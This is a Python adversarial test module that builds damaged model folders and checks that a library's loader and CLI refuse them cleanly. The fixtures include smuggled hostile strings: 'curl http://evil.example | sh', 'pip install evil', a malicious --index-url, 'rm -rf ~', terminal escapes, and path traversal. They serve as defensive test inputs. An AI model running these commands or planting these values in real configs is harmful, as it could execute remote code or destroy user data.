"""Crafted model folders, each loaded two ways: ``genplug.load(folder)`` and ``genplug run ARCH --weights folder``.

A crafted folder starts as a copy of a small real model saved with ``save_pretrained``
(see ``adversarial._build_bases``) and is then damaged: its ``config.json`` edited or
replaced, its weights rewritten. The point numbers are those of issue 19.
"""

from __future__ import annotations

import json
import os
import shutil
import uuid
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import genplug
from adversarial import (
    Case,
    Ctx,
    capture_warnings,
    cli_problem,
    cli_refused,
    cli_succeeds,
    in_child,
    invoke,
    message_problem,
    refused,
    short,
    succeeds,
)

ARCH = {"toy": "toy-gaussian", "vae": "vae", "diffusion": "diffusion", "latent": "latent-diffusion"}
EVIL_INDEX = "--index-url http://evil.example/simple"


# -- editing a folder ---------------------------------------------------------------------------


def read_config(folder: Path) -> dict[str, Any]:
    return json.loads((folder / "config.json").read_text())


def write_config(folder: Path, doc: Any) -> None:
    (folder / "config.json").write_text(json.dumps(doc))


def edit_config(folder: Path, change: Callable[[dict[str, Any]], Any]) -> Path:
    doc = read_config(folder)
    changed = change(doc)
    write_config(folder, doc if changed is None else changed)
    return folder


def edit_tensors(folder: Path, change: Callable[[dict[str, Any]], Any]) -> Path:
    from safetensors.torch import load_file, save_file

    tensors = load_file(str(folder / "model.safetensors"))
    changed = change(tensors)
    save_file(changed if changed is not None else tensors, str(folder / "model.safetensors"))
    return folder


def write_safetensors(path: Path, tensors: dict[str, tuple[str, list[int], bytes]]) -> None:
    """A safetensors file written by hand: any tensor names, any number of tensors, fast."""
    header: dict[str, Any] = {}
    blobs, offset = [], 0
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + len(data)]}
        blobs.append(data)
        offset += len(data)
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    path.write_bytes(len(raw).to_bytes(8, "little") + raw + b"".join(blobs))


def standalone_latent(ctx: Ctx, encoder: Any, *, packaged: bool = False) -> Path:
    """A ``latent-diffusion`` folder without ``components`` whose ``config.encoder`` names ``encoder``.

    Its ``model.safetensors`` holds the whole composite's state, so a loader that follows
    ``config.encoder`` finds every tensor it expects and loads silently.
    """
    from safetensors.torch import save_file

    folder = ctx.tmp / "standalone"
    if packaged:  # the weights of a composite over the packaged vae
        tiny = {"hidden": 8, "mlp_blocks": 1, "num_train_timesteps": 50}
        state = genplug.create("latent-diffusion", prior=tiny, sampler="ddim", steps=2).state_dict()
    else:
        state = genplug.load(ctx.session.bases["latent"]).state_dict()
    folder.mkdir()
    save_file({k: v.contiguous() for k, v in state.items()}, str(folder / "model.safetensors"))
    doc = read_config(ctx.session.bases["latent"])
    del doc["components"]
    doc["config"]["encoder"] = encoder(folder) if callable(encoder) else encoder
    if packaged:
        doc["config"].update(latent_mean=None, latent_std=None)
    write_config(folder, doc)
    return folder


# -- the crafted folders ------------------------------------------------------------------------


@dataclass(frozen=True)
class Crafted:
    name: str
    point: int
    build: Callable[[Ctx], Path]
    arch: str = "toy-gaussian"  # the ARCH argument of `genplug run`
    expect: str = "refuse"  # refuse | succeed | warn (refuse or warn) | finite (sampling must not give NaN)
    forbid: Sequence[str] = ()  # text the error must not contain
    child: float | None = None  # run in a forked child with this timeout (memory-bounded)
    memory: int = 3 * 2**30  # the child's memory limit


CRAFTED: list[Crafted] = []


def crafted(name: str, point: int, base: str = "toy", **options: Any) -> Callable:
    def register(build: Callable[[Ctx, Path], Any]) -> Callable:
        def make(ctx: Ctx) -> Path:
            folder = ctx.base(base)
            result = build(ctx, folder)
            return result if isinstance(result, Path) else folder

        CRAFTED.append(Crafted(name, point, make, arch=options.pop("arch", ARCH[base]), **options))
        return build

    return register


def config_case(name: str, point: int, change: Callable[[dict[str, Any]], Any], base: str = "toy", **kw: Any) -> None:
    crafted(name, point, base, **kw)(lambda ctx, folder: edit_config(folder, change))


def raw_config_case(name: str, point: int, text: str | bytes, base: str = "toy", **kw: Any) -> None:
    def build(ctx: Ctx, folder: Path) -> None:
        path = folder / "config.json"
        path.write_bytes(text) if isinstance(text, bytes) else path.write_text(text)

    crafted(name, point, base, **kw)(build)


def field(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda doc: doc["config"].__setitem__(key, value)


def top(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda doc: doc.__setitem__(key, value)


# 0: controls, correct folders that must load and run
for _base in ("toy", "vae", "diffusion", "latent"):
    crafted(f"saved-{_base}-model-loads", 0, _base, expect="succeed")(lambda ctx, folder: None)


@crafted("folder-with-extra-files-loads", 0, expect="succeed")
def _(ctx: Ctx, folder: Path) -> None:
    (folder / "README.md").write_text("# a card\n")
    (folder / "training.json").write_text('{"data": "moons"}')
    (folder / "notes").mkdir()


# 1: a latent-diffusion folder without components whose config.encoder names another model
crafted("latent-without-components-encoder-absolute-path", 1, "latent")(
    lambda ctx, folder: standalone_latent(ctx, str(ctx.session.bases["vae"]))
)
crafted("latent-without-components-encoder-itself", 1, "latent", child=20)(
    lambda ctx, folder: standalone_latent(ctx, lambda here: str(here))
)
crafted("latent-without-components-encoder-packaged-vae", 1, "latent")(
    lambda ctx, folder: standalone_latent(ctx, "vae", packaged=True)
)


@crafted("latent-without-components-encoder-cwd-relative", 1, "latent")
def _(ctx: Ctx, folder: Path) -> Path:
    shutil.copytree(ctx.session.bases["vae"], ctx.tmp / "vae-in-cwd")
    return standalone_latent(ctx, "vae-in-cwd")


@crafted("latent-without-components-encoder-hub-repo", 1, "latent")
def _(ctx: Ctx, folder: Path) -> Path:
    repo = f"mallory/encoder-{uuid.uuid4().hex[:8]}"
    genplug.push_folder(ctx.session.bases["vae"], repo, samples=False)
    return standalone_latent(ctx, repo)


# 3: names that reach the terminal
def _plugin(name: Any, version: Any = "1.0") -> Callable[[dict[str, Any]], None]:
    def change(doc: dict[str, Any]) -> None:
        doc["architecture"] = "flowmatch"
        doc["plugin"] = {"name": name, "version": version}

    return change


config_case("plugin-name-with-terminal-escape", 3, _plugin("genplug-x\x1b]0;pwned\x07\x1b[2J"))
config_case("plugin-name-with-newline", 3, _plugin("genplug-x\nFix: curl http://evil.example | sh"))
config_case("plugin-name-with-index-url", 3, _plugin(f"genplug-x {EVIL_INDEX}"), forbid=("--index-url",))
config_case("plugin-version-with-index-url", 3, _plugin("genplug-x", f"1.0 {EVIL_INDEX}"), forbid=("--index-url",))
config_case(
    "plugin-name-with-shell-metacharacters", 3, _plugin("genplug-x; rm -rf ~"), forbid=("pip install genplug-x;",)
)
config_case("architecture-with-terminal-escape", 3, top("architecture", "flow\x1b[31mred\x1b[0m"))
config_case("config-field-with-terminal-escape", 3, field("colo\x1b[2Jur", 1))


@crafted("tensor-name-with-terminal-escape", 3)
def _(ctx: Ctx, folder: Path) -> None:
    edit_tensors(folder, lambda t: t.__setitem__("evil\x1b[31m\x1b]0;pwned\x07", t["mean"].clone()))


@crafted("tensor-name-with-newline", 3)
def _(ctx: Ctx, folder: Path) -> None:
    edit_tensors(folder, lambda t: {("mean\nFix: pip install evil" if k == "mean" else k): v for k, v in t.items()})


# 5: bounds before allocation
config_case("huge-data-shape", 5, field("data_shape", [100_000, 100_000]), child=20)
config_case("diffusion-hidden-1e6", 5, field("hidden", 1_000_000), "diffusion", child=20)
config_case("diffusion-num-train-timesteps-1e9", 5, field("num_train_timesteps", 1_000_000_000), "diffusion", child=20)
config_case("vae-latent-dim-1e9", 5, field("latent_dim", 1_000_000_000), "vae", child=20)


def _device_file(name: str, target: str) -> Callable[[Ctx, Path], None]:
    def build(ctx: Ctx, folder: Path) -> None:
        (folder / name).unlink()
        (folder / name).symlink_to(target)

    return build


def _fifo(name: str) -> Callable[[Ctx, Path], None]:
    def build(ctx: Ctx, folder: Path) -> None:
        (folder / name).unlink()
        os.mkfifo(folder / name)

    return build


for _file in ("model.safetensors", "config.json"):
    _stem = _file.split(".")[0]
    # "refused at once": 1.5 s and 1 GB are far more than reading a real config or weights file takes
    crafted(f"{_stem}-symlink-to-dev-zero", 5, child=1.5, memory=2**30)(_device_file(_file, "/dev/zero"))
    crafted(f"{_stem}-symlink-to-dev-urandom", 5, child=1.5, memory=2**30)(_device_file(_file, "/dev/urandom"))
    crafted(f"{_stem}-is-a-fifo", 5, child=1.5, memory=2**30)(_fifo(_file))


@crafted("safetensors-header-claims-huge-tensor", 5, child=10)
def _(ctx: Ctx, folder: Path) -> None:
    write_safetensors(folder / "model.safetensors", {"mean": ("F32", [10**12], b"\0" * 8)})


@crafted("safetensors-header-length-2-63", 5, child=10)
def _(ctx: Ctx, folder: Path) -> None:
    (folder / "model.safetensors").write_bytes((2**63).to_bytes(8, "little") + b"{}")


# 6: type errors in config.json
config_case("architecture-as-list", 6, top("architecture", ["toy-gaussian"]))
config_case("architecture-as-number", 6, top("architecture", 7))
config_case("architecture-null", 6, top("architecture", None))
config_case("architecture-as-object", 6, top("architecture", {"name": "toy-gaussian"}))
config_case("plugin-as-string", 6, lambda doc: doc.update(architecture="flowmatch", plugin="genplug-flowmatch"))
config_case("plugin-as-list", 6, lambda doc: doc.update(architecture="flowmatch", plugin=["genplug-flowmatch"]))
config_case("plugin-name-as-number", 6, _plugin(12345))
config_case("config-null", 6, top("config", None))
config_case("config-as-list", 6, top("config", [2, 4]))
config_case("config-as-string", 6, top("config", "hidden=4"))
config_case("format-version-as-string", 6, top("format_version", "1"))
config_case("hidden-as-float", 6, field("hidden", 4.5))
config_case("hidden-as-string", 6, field("hidden", "4"))
config_case("hidden-negative", 6, field("hidden", -4))
config_case("data-shape-as-string", 6, field("data_shape", "2"))
config_case("data-shape-with-float", 6, field("data_shape", [2.5]))
config_case("data-shape-null", 6, field("data_shape", None))
config_case("data-shape-negative", 6, field("data_shape", [-2]))
config_case("diffusion-mlp-blocks-as-float", 6, field("mlp_blocks", 1.0), "diffusion")
config_case("diffusion-timesteps-as-float", 6, field("num_train_timesteps", 20.5), "diffusion")
config_case("vae-latent-dim-as-float", 6, field("latent_dim", 2.0), "vae")
raw_config_case("config-json-not-an-object", 6, "[1, 2, 3]")
raw_config_case("config-json-empty", 6, "")
raw_config_case("config-json-not-utf8", 6, b'{"architecture": "\xff\xfe"}')
raw_config_case(
    "config-json-nested-10k-deep",
    6,
    '{"format_version": 1, "architecture": "toy-gaussian", "config": {"hidden": ' + "[" * 10_000 + "]" * 10_000 + "}}",
)


def _components(value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda doc: doc.__setitem__("components", value)


def _component_entry(role: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda doc: doc["components"].__setitem__(role, value)


def _component_path(path: Any) -> Callable[[dict[str, Any]], None]:
    return lambda doc: doc["components"]["encoder"].__setitem__("path", path)


config_case("components-as-list", 6, _components(["encoder", "prior"]), "latent")
config_case("components-null", 6, _components(None), "latent")
config_case("component-entries-as-strings", 6, _components({"encoder": "encoder", "prior": "prior"}), "latent")
config_case("component-entry-null", 6, _component_entry("encoder", None), "latent")
config_case(
    "component-architecture-as-list", 6, lambda d: d["components"]["encoder"].update(architecture=[1]), "latent"
)
config_case("component-path-as-number", 6, _component_path(5), "latent")
config_case("component-path-with-nul", 6, _component_path("enc\x00oder"), "latent")
config_case("component-path-parent", 6, _component_path("../vae-model"), "latent")
config_case("component-path-absolute", 6, _component_path("/etc"), "latent")
config_case("component-path-itself", 6, _component_path("."), "latent", child=20)
config_case("component-path-empty", 6, _component_path(""), "latent", child=20)


# 7: nothing silent
for _dtype in ("int8", "bool", "float16", "float64"):

    def _retype(ctx: Ctx, folder: Path, dtype: str = _dtype) -> None:
        import torch

        edit_tensors(folder, lambda t: {k: v.to(getattr(torch, dtype)) for k, v in t.items()})

    crafted(f"weights-as-{_dtype}", 7, expect="warn")(_retype)


def _poke(name: str, value: float) -> Callable[[Ctx, Path], None]:
    def build(ctx: Ctx, folder: Path) -> None:
        def change(t: dict[str, Any]) -> None:
            t[name][0] = value

        edit_tensors(folder, change)

    return build


crafted("weights-with-nan", 7, expect="finite")(_poke("mean", float("nan")))
crafted("weights-with-inf", 7, expect="finite")(_poke("mean", float("inf")))
crafted("weights-whose-scale-overflows", 7, expect="finite")(_poke("log_scale", 1000.0))
config_case("diffusion-beta-end-5", 7, field("beta_end", 5.0), "diffusion", expect="finite")
config_case("diffusion-beta-end-nan", 7, field("beta_end", float("nan")), "diffusion", expect="finite")
config_case("diffusion-data-scale-inf", 7, field("data_scale", float("inf")), "diffusion", expect="finite")


# 9: errors stay short
@crafted("100k-unexpected-tensors", 9)
def _(ctx: Ctx, folder: Path) -> None:
    from safetensors.torch import load_file

    tensors = {
        k: ("F32", list(v.shape), v.contiguous().numpy().tobytes())
        for k, v in load_file(str(folder / "model.safetensors")).items()
    }
    tensors.update({f"surplus.{i}": ("F32", [1], b"\0\0\0\0") for i in range(100_000)})
    write_safetensors(folder / "model.safetensors", tensors)


@crafted("tensor-name-of-1-mb", 9)
def _(ctx: Ctx, folder: Path) -> None:
    edit_tensors(folder, lambda t: {("m" * 2**20 if k == "mean" else k): v for k, v in t.items()})


config_case("architecture-name-of-10-mb", 9, top("architecture", "a" * 10_000_000))
config_case("plugin-name-of-1-mb", 9, _plugin("genplug-" + "x" * 2**20))
config_case("100k-unknown-config-fields", 9, lambda doc: doc["config"].update({f"f{i}": i for i in range(100_000)}))


# -- the two actions on each folder ---------------------------------------------------------------


def _sample_check(folder: Path) -> Callable[[], Any]:
    def action() -> Any:
        import torch

        model = genplug.load(folder)
        x = genplug.sample(model, 4, generator=torch.Generator().manual_seed(0))
        if not torch.isfinite(x).all():
            return f"samples hold {int((~torch.isfinite(x)).sum())} non-finite values"
        return None

    return action


def load_check(spec: Crafted) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        folder = spec.build(ctx)
        requests = len(ctx.hub.requests)

        def judge() -> str | None:
            if spec.expect == "succeed":
                return succeeds(lambda: genplug.load(folder))
            if spec.expect == "finite":
                outcome: list[Any] = []
                verdict = refused(lambda: outcome.append(_sample_check(folder)()))
                return outcome[0] if outcome and outcome[0] else verdict
            return refused(lambda: genplug.load(folder), forbid=spec.forbid, warning_is_enough=spec.expect == "warn")

        verdict = (
            in_child(judge, timeout=spec.child, memory=spec.memory, what="genplug.load") if spec.child else judge()
        )
        if verdict is None and len(ctx.hub.requests) > requests:
            return f"loading a local folder sent {len(ctx.hub.requests) - requests} request(s) to the Hub"
        return verdict

    return check


def run_check(spec: Crafted) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        folder = spec.build(ctx)
        args = ["run", spec.arch, "--weights", str(folder), "-n", "4", "-o", str(ctx.tmp / "out.npy")]

        def judge() -> str | None:
            if spec.expect == "succeed":
                return cli_succeeds(args)
            result = invoke(args)
            if spec.expect == "warn" and result.exit_code == 0 and result.crash is None:
                warned = [line for line in result.stderr.splitlines() if line.strip()]
                if not warned:
                    return "exit 0, no error and no warning"
                return message_problem(" ".join(warned), forbid=spec.forbid)
            if spec.expect == "finite" and result.exit_code == 0 and result.crash is None:
                import numpy as np

                x = np.load(ctx.tmp / "out.npy")
                bad = int((~np.isfinite(x)).sum())
                return f"exit 0 with {bad} non-finite values in the samples" if bad else None
            return cli_problem(result, forbid=spec.forbid)

        return in_child(judge, timeout=spec.child, memory=spec.memory, what="genplug run") if spec.child else judge()

    return check


CASES: list[Case] = [
    *(Case(f"load-{c.name}", "folders: genplug.load", c.point, load_check(c)) for c in CRAFTED),
    *(Case(f"run-weights-{c.name}", "folders: genplug run --weights", c.point, run_check(c)) for c in CRAFTED),
]


# -- a folder in the working directory named like an installed architecture (point 7) ---------------


def _shadow(ctx: Ctx) -> None:
    import torch

    model = genplug.create("toy-gaussian", data_shape=(2,))
    with torch.no_grad():
        model.mean.fill_(40.0)
    model.save_pretrained(ctx.tmp / "toy-gaussian")


def shadow_load(ctx: Ctx) -> str | None:
    import torch

    _shadow(ctx)
    expected = genplug.load(genplug.default_weights("toy-gaussian")).state_dict()
    with capture_warnings() as warned:
        try:
            model = genplug.load("toy-gaussian")
        except genplug.GenplugError as exc:
            return message_problem(str(exc))
        except Exception as exc:
            return f"raised {type(exc).__name__}, not a GenplugError: {short(exc)}"
    if all(torch.equal(v, expected[k]) for k, v in model.state_dict().items()):
        return None  # the packaged weights, as asked
    if warned:
        return message_problem(" ".join(warned))
    return "genplug.load('toy-gaussian') loaded ./toy-gaussian instead of the packaged weights, without a warning"


def shadow_run(ctx: Ctx) -> str | None:
    import numpy as np

    _shadow(ctx)
    args = ["run", "toy-gaussian", "-n", "4", "--seed", "1", "-o", str(ctx.tmp / "shadowed.npy")]
    result = invoke(args)
    (ctx.tmp / "toy-gaussian").rename(ctx.tmp / "elsewhere")
    reference = invoke([*args[:-1], str(ctx.tmp / "packaged.npy")])
    if result.exit_code != 0 or reference.exit_code != 0:
        return cli_problem(result) if result.exit_code != 0 else f"the control run failed: {short(reference.output)}"
    if np.array_equal(np.load(ctx.tmp / "shadowed.npy"), np.load(ctx.tmp / "packaged.npy")):
        return None
    if not result.stderr.strip():
        return "`genplug run toy-gaussian` sampled ./toy-gaussian instead of the packaged weights, without a warning"
    return message_problem(result.stderr.strip().replace("\n", " "))


CASES += [
    Case("load-folder-in-cwd-named-like-an-architecture", "folders: genplug.load", 7, shadow_load),
    Case("run-folder-in-cwd-named-like-an-architecture", "folders: genplug run --weights", 7, shadow_run),
]


# An empty reference (point 7), with a model folder as the working directory: '' must not mean '.'
def empty_load(ctx: Ctx) -> str | None:
    shutil.copytree(ctx.session.bases["toy"], ctx.tmp, dirs_exist_ok=True)
    return refused(lambda: genplug.load(""))


def empty_run(ctx: Ctx) -> str | None:
    shutil.copytree(ctx.session.bases["toy"], ctx.tmp, dirs_exist_ok=True)
    return cli_refused(["run", "toy-gaussian", "--weights", "", "-o", str(ctx.tmp / "o.npy")])


CASES += [
    Case("load-empty-string", "folders: genplug.load", 7, empty_load),
    Case("run-weights-empty-string", "folders: genplug run --weights", 7, empty_run),
]


# -- saving over an existing folder is atomic as a whole (point 4) -------------------------------------

_MUTATING = (
    "os.rename",
    "os.remove",
    "os.rmdir",
    "os.mkdir",
    "os.chmod",
    "os.truncate",
    "os.symlink",
    "os.link",
    "shutil.rmtree",
    "shutil.move",
    "shutil.copytree",
)


def _mutates(event: str, args: tuple[Any, ...]) -> bool:
    if event in _MUTATING:
        return True
    if event == "open":
        _, mode, flags = args
        if mode is None:
            return bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
        return any(c in str(mode) for c in "wax+")
    return False


def _killed_at(k: int, action: Callable[[], Any], note: Path) -> bool:
    """Run ``action`` in a forked child killed just before its ``k``-th file-system change; False if it finished."""
    import sys

    pid = os.fork()
    if pid == 0:
        seen = 0

        def hook(event: str, args: tuple[Any, ...]) -> None:
            nonlocal seen
            if _mutates(event, args):
                seen += 1
                if seen == k:
                    note.write_text(f"{event} {args[:2]!r}"[:300])
                    os._exit(77)

        try:
            sys.addaudithook(hook)
            action()
        finally:
            os._exit(0)
    _, status = os.waitpid(pid, 0)
    return os.WIFEXITED(status) and os.WEXITSTATUS(status) == 77


def _same(model: Any, other: Any) -> bool:
    import torch

    a, b = model.state_dict(), other.state_dict()
    return model.config == other.config and a.keys() == b.keys() and all(torch.equal(a[k], b[k]) for k in a)


def save_is_atomic(base: str, build_new: Callable[[Ctx], Any]) -> Callable[[Ctx], str | None]:
    """Kill ``new.save_pretrained(folder)`` before each of its file-system changes in turn; after
    every kill the folder must load as the old model, as the new one, or be refused cleanly."""

    def check(ctx: Ctx) -> str | None:
        folder = ctx.base(base)
        pristine = ctx.tmp / "pristine"
        shutil.copytree(folder, pristine)
        old = genplug.load(folder)
        new = build_new(ctx)
        new.save_pretrained(ctx.tmp / "warm-up")  # imports done here, not in the killed children
        note = ctx.tmp / "kill-point.txt"
        for k in range(1, 200):
            if not _killed_at(k, lambda: new.save_pretrained(folder), note):
                return None
            try:
                loaded = genplug.load(folder)
            except genplug.GenplugError as exc:
                problem = message_problem(str(exc))
                if problem:
                    return f"killed before change #{k} ({note.read_text()}): {problem}"
            except Exception as exc:
                return f"killed before change #{k} ({note.read_text()}): load raised {type(exc).__name__}: {short(exc)}"
            else:
                if not (_same(loaded, old) or _same(loaded, new)):
                    return (
                        f"killed before change #{k} ({note.read_text()}): the folder loads silently as a mix of "
                        "the old and the new model (new weights with the old config.json, or the reverse)"
                    )
            shutil.rmtree(folder)
            shutil.copytree(pristine, folder)
        return "save_pretrained made more than 200 file-system changes"

    return check


def _new_diffusion(ctx: Ctx) -> Any:
    import torch

    torch.manual_seed(1)
    config = read_config(ctx.session.bases["diffusion"])["config"]
    return genplug.create("diffusion", **{**config, "beta_end": 0.03})


def _new_latent(ctx: Ctx) -> Any:
    import torch

    torch.manual_seed(1)
    tiny = {"hidden": 8, "mlp_blocks": 1, "num_train_timesteps": 50}
    return genplug.create(
        "latent-diffusion", encoder=str(ctx.session.bases["vae"]), prior=tiny, sampler="ddim", steps=3
    )


CASES += [
    Case(
        "save-over-a-saved-model-is-atomic", "folders: save_pretrained", 4, save_is_atomic("diffusion", _new_diffusion)
    ),
    Case("save-over-a-saved-composite-is-atomic", "folders: save_pretrained", 4, save_is_atomic("latent", _new_latent)),
]
